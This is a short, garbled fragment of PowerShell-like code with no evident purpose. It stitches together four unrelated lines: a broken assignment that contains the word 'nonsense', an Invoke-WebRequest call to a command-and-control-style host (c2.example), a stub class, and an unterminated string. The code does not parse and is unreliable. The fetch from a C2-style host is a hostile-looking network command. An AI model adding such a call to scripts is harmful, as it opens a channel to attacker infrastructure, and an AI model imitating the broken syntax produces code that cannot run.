$a = ))) nonsense
Invoke-WebRequest http://c2.example/after
class Thing { [string] $name }
$x = "cut off
